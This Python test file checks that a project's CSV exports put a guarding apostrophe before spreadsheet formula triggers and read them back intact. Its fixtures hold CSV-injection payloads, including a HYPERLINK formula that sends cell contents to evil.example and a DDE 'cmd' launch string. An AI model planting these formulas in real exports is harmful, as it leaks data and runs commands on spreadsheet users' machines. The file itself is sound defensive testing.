"""CSV that karmayogi writes is opened in spreadsheets: a cell that a spreadsheet would run
as a formula (starting with =, +, -, @, a tab or a carriage return) is written with a
guarding apostrophe, and karmayogi's own readers take the apostrophe off again."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import attrs
from hypothesis import given
from hypothesis import strategies as st

from karmayogi._csv import safe_cell, unguarded
from karmayogi.cbp import Allocation, read_allocations_csv, write_allocations_csv
from karmayogi.competency import Framework, read_designation_csv, write_designation_csv
from tests.builders import designation, needs
from tests.test_cli import run
from tests.test_reports import report, row

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+91 98000 00000",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already guarded",
    "''",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _runs_as_formula(cell: str) -> bool:
    """Whether a spreadsheet opening the file would take the cell for a formula: it starts
    with a trigger and is not a plain number."""
    if not cell.startswith(TRIGGERS):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def _cells(text: str) -> list[str]:
    """Every cell of a CSV file, as a spreadsheet reads its text."""
    return [cell for record in csv.reader(io.StringIO(text, newline="")) for cell in record]


def assert_safe(text: str) -> None:
    dangerous = [cell for cell in _cells(text) if _runs_as_formula(cell)]
    assert not dangerous, dangerous


@given(st.text())
def test_a_guarded_cell_reads_back_and_never_runs(text: str) -> None:
    guarded = safe_cell(text)
    assert isinstance(guarded, str)
    assert unguarded(guarded) == text
    assert not _runs_as_formula(guarded)


def test_numbers_and_plain_text_are_written_as_they_are() -> None:
    assert [safe_cell(v) for v in ("-5", "+1.5", "Tehsildar", "", 7, None)] == [
        "-5", "+1.5", "Tehsildar", "", 7, None,
    ]  # fmt: skip


def test_allocations_csv_is_safe_and_reads_back(tmp_path: Path) -> None:
    allocations = [
        Allocation(
            person=text,
            course=text,
            due=dt.date(2026, 3, 31),
            plan=text,
            mandatory=True,
            apar=False,
        )
        for text in HOSTILE
        if text.strip()
    ]
    path = tmp_path / "allocations.csv"
    write_allocations_csv(allocations, path)
    text = path.read_text(encoding="utf-8")
    assert_safe(text)
    assert "'=HYPERLINK(" in text
    # A person's identifier is read without surrounding white space (a "\r" before it
    # names no one else); every other field comes back as it was.
    expected = [attrs.evolve(a, person=a.person.strip()) for a in allocations]
    assert sorted(read_allocations_csv(path), key=str) == sorted(expected, key=str)


def test_designation_csv_is_safe_and_reads_back(kcm: Framework) -> None:
    names = ["=cmd|' /C calc'!A0", "+2 Lecturer", "-Clerk", "@Head"]
    positions = [designation(name, needs("KCM-B04-01", 2)) for name in names]
    out = io.StringIO()
    write_designation_csv(positions, kcm, out)
    assert_safe(out.getvalue())
    out.seek(0)
    back = read_designation_csv(out, kcm).value
    assert sorted(p.name for p in back) == sorted(names)


def test_progress_and_compliance_csv_are_safe(tmp_path: Path) -> None:
    export = tmp_path / "ConsumptionReport.csv"
    rows = [row(Ministry="=HYPERLINK(\"http://evil.example\")", Department="@SUM(A1)",
                Organization="-2+3")]  # fmt: skip
    export.write_text(report(rows).getvalue(), encoding="utf-8")
    allocations = tmp_path / "allocations.csv"
    allocations.write_text(
        "Person,Course,Due Date,Plan,Mandatory,APAR\n"
        'ravi@cg.gov.in,"RTI Act, 2005",2025-07-01,p,Yes,Yes\n',
        encoding="utf-8",
    )
    result = run("progress", str(export), "--allocations", str(allocations), "--format", "csv")
    assert result.returncode == 0, result.stderr
    assert "'=HYPERLINK" in result.stdout
    assert "'@SUM(A1)" in result.stdout
    assert_safe(result.stdout)


def test_the_demo_exports_are_safe(tmp_path: Path) -> None:
    from karmayogi.demo import make_demo

    for path in make_demo(people=60).write_exports(tmp_path):
        if path.suffix == ".csv":
            assert_safe(path.read_text(encoding="utf-8"))
